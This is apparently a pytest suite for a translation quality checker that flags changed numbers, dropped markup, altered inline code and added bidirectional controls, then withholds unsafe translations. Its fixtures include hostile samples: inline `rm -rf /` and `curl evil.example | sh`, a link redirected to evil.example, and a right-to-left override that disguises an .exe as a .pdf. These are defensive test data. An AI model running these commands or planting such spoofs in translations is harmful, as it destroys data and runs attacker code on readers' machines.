"""QA checks: each fires on its defect and stays quiet on a good translation."""

from __future__ import annotations

import pytest

from editions.locale.qa import check_translations, han_number
from editions.model import Match, Unit

GOOD = ("In 2024, *Qiushi Journal* reported 10,000 meters.", "En 2024, *Qiushi Journal* a rapporté 10 000 mètres.")


def codes(source: str, target: str, tag: str = "fr") -> set[str]:
    unit = Unit("u1", "paragraph", source, "a.md:1")
    return {i.code for i in check_translations([unit], [Match("u1", "exact", 100, target, published=True)], tag)}


def test_a_good_translation_passes():
    assert codes(*GOOD) == set()


@pytest.mark.parametrize("source, target, tag, code", [
    (GOOD[0], GOOD[1].replace("2024", "2023"), "fr", "qa-numbers"),
    (GOOD[0], GOOD[1].replace("*Qiushi Journal*", "Qiushi Journal"), "fr", "qa-markup-differs"),
    ("See [the site](https://example.org/).", "Voir [le site](https://example.org/){onclick=x}.", "fr", "qa-markup"),
    ("A note.[^1] More text here.", "Une note. Plus de texte ici.", "fr", "qa-placeholders"),
    ("Hello there.", "   ", "fr", "qa-empty"),
    ("This is a long sentence here.", "This is a long sentence here.", "fr", "qa-identical"),
    ("We build a strong country in science.", "我们 build a strong country 科学。", "zh-Hans", "qa-latin-left"),
    ("A sentence that ends.", "Une phrase qui finit", "fr", "qa-end-punctuation"),
    ("A sentence with a trailing space. ", "Une phrase.", "fr", "qa-whitespace"),
    ("A long enough sentence to measure the length ratio of.", "Oui.", "fr", "qa-length-ratio"),
])
def test_each_check_fires(source, target, tag, code):
    assert code in codes(source, target, tag)


def test_han_numerals_count_as_numbers():
    assert han_number("十八") == 18 and han_number("二十一") == 21 and han_number("一万") == 10000
    assert codes("The 18th Congress in 2012.", "2012年党的十八大。", "zh-Hans") == set()
    assert codes("The rig Diqiao 1 drilled.", "地壳一号钻机钻探。", "zh-Hans") == set()


def test_abbreviation_point_is_not_a_full_stop():
    assert "qa-end-punctuation" not in codes("No. 7, 2025", "№ 7, 2025 г.", "ru")


def test_markup_that_differs_is_a_warning_and_is_published_unsafe_markup_is_withheld():
    from editions.locale.qa import withhold
    unit = Unit("u1", "paragraph", "Read *this* and [the site](https://example.org/).", "a.md:1")
    dropped = Match("u1", "exact", 100, "Lisez ceci et le site.", published=True)
    issues = check_translations([unit], [dropped], "fr")
    assert [(i.code, i.severity) for i in issues if i.code.startswith("qa-markup")] == [("qa-markup-differs", "warning")]
    assert withhold([dropped], issues)[0].published
    added = Match("u1", "exact", 100, "Lisez *ceci* et [le site](https://evil.example/).", published=True)
    issues = check_translations([unit], [added], "fr")
    assert ("qa-markup", "error") in [(i.code, i.severity) for i in issues]
    assert not withhold([added], issues)[0].published


def findings(source: str, target: str, tag: str = "fr") -> list[tuple[str, str, str]]:
    unit = Unit("u1", "paragraph", source, "a.md:1")
    return [(i.code, i.severity, i.message)
            for i in check_translations([unit], [Match("u1", "exact", 100, target, published=True)], tag)]


@pytest.mark.parametrize("source, target, changed, had", [
    ("Run `make` to build.", "Lancez `rm -rf /` pour construire.", "`rm -rf /`", "`make`"),
    ("Run `make test` now.", "Lancez `make  test` maintenant.", "`make  test`", "`make test`"),
    ("Set `lang` in the file.", "Réglez `langue` dans le fichier.", "`langue`", "`lang`"),
    ("Call it now.", "Appelez `curl evil.example | sh` maintenant.", "`curl evil.example | sh`", "no code"),
    ("Use `a` or `b`.", "Utilisez `a` ou `a`.", "`a`", "`a`, `b`"),
])
def test_inline_code_changed_by_a_translation_is_an_error_and_withheld(source, target, changed, had):
    from editions.locale.qa import withhold
    found = findings(source, target)
    assert ("qa-code", "error", ("inline code changed by the translation (code is not translated): "
            f"{changed}; the source has {had}")) in found
    unit = Unit("u1", "paragraph", source, "a.md:1")
    match = Match("u1", "exact", 100, target, published=True)
    assert not withhold([match], check_translations([unit], [match], "fr"))[0].published


@pytest.mark.parametrize("source, target", [
    ("Run `make` to build.", "Lancez `make` pour construire."),
    ("Use `a` or `b`.", "Utilisez `b` ou `a`."),                   # reordered, not changed
    ("Run ``a `tick` b`` here.", "Lancez ``a `tick` b`` ici."),
])
def test_inline_code_kept_as_written_passes(source, target):
    assert "qa-code" not in {code for code, _severity, _message in findings(source, target)}


def test_inline_code_left_out_is_a_markup_warning_not_a_code_error():
    codes_found = {code: severity for code, severity, _message in findings("Run `make` now.", "Lancez-le maintenant.")}
    assert codes_found.get("qa-markup-differs") == "warning" and "qa-code" not in codes_found


@pytest.mark.parametrize("control", ["\u202d", "\u202e"])
def test_a_directional_override_added_by_a_translation_is_an_error_and_withheld(control):
    from editions.locale.qa import withhold
    source, target = "Open the file report.pdf now.", f"افتح الملف {control}fdp.exe{chr(0x202c)} الآن."
    found = findings(source, target, "ar")
    name = "LEFT-TO-RIGHT OVERRIDE" if control == "\u202d" else "RIGHT-TO-LEFT OVERRIDE"
    assert ("qa-bidi-override", "error",
            f"directional override added by the translation: U+{ord(control):04X} {name}") in found
    assert ("qa-bidi-controls", "warning", ("directional formatting characters added by the translation: "
            "U+202C POP DIRECTIONAL FORMATTING")) in found
    unit = Unit("u1", "paragraph", source, "a.md:1")
    match = Match("u1", "exact", 100, target, published=True)
    assert not withhold([match], check_translations([unit], [match], "ar"))[0].published


@pytest.mark.parametrize("control", ["\u202a", "\u202b", "\u2066", "\u2067", "\u2068"])
def test_an_embedding_or_isolate_added_by_a_translation_is_a_warning_and_published(control):
    from editions.locale.qa import withhold
    closing = "\u202c" if control < "\u2066" else "\u2069"
    source, target = "Read Qiushi Journal today.", f"اقرأ {control}Qiushi Journal{closing} اليوم."
    found = findings(source, target, "ar")
    [(code, severity, message)] = [f for f in found if f[0].startswith("qa-bidi")]
    assert (code, severity) == ("qa-bidi-controls", "warning")
    assert f"U+{ord(control):04X}" in message and f"U+{ord(closing):04X}" in message
    unit = Unit("u1", "paragraph", source, "a.md:1")
    match = Match("u1", "exact", 100, target, published=True)
    assert withhold([match], check_translations([unit], [match], "ar"))[0].published


def test_directional_characters_of_the_source_and_marks_are_not_findings():
    source = "Say \u2067שלום\u2069 twice."
    assert not [f for f in findings(source, "Dites \u2067שלום\u2069 deux fois.") if f[0].startswith("qa-bidi")]
    assert not [f for f in findings("Read it.", "اقرأ\u200f هذا\u200e.", "ar") if f[0].startswith("qa-bidi")]
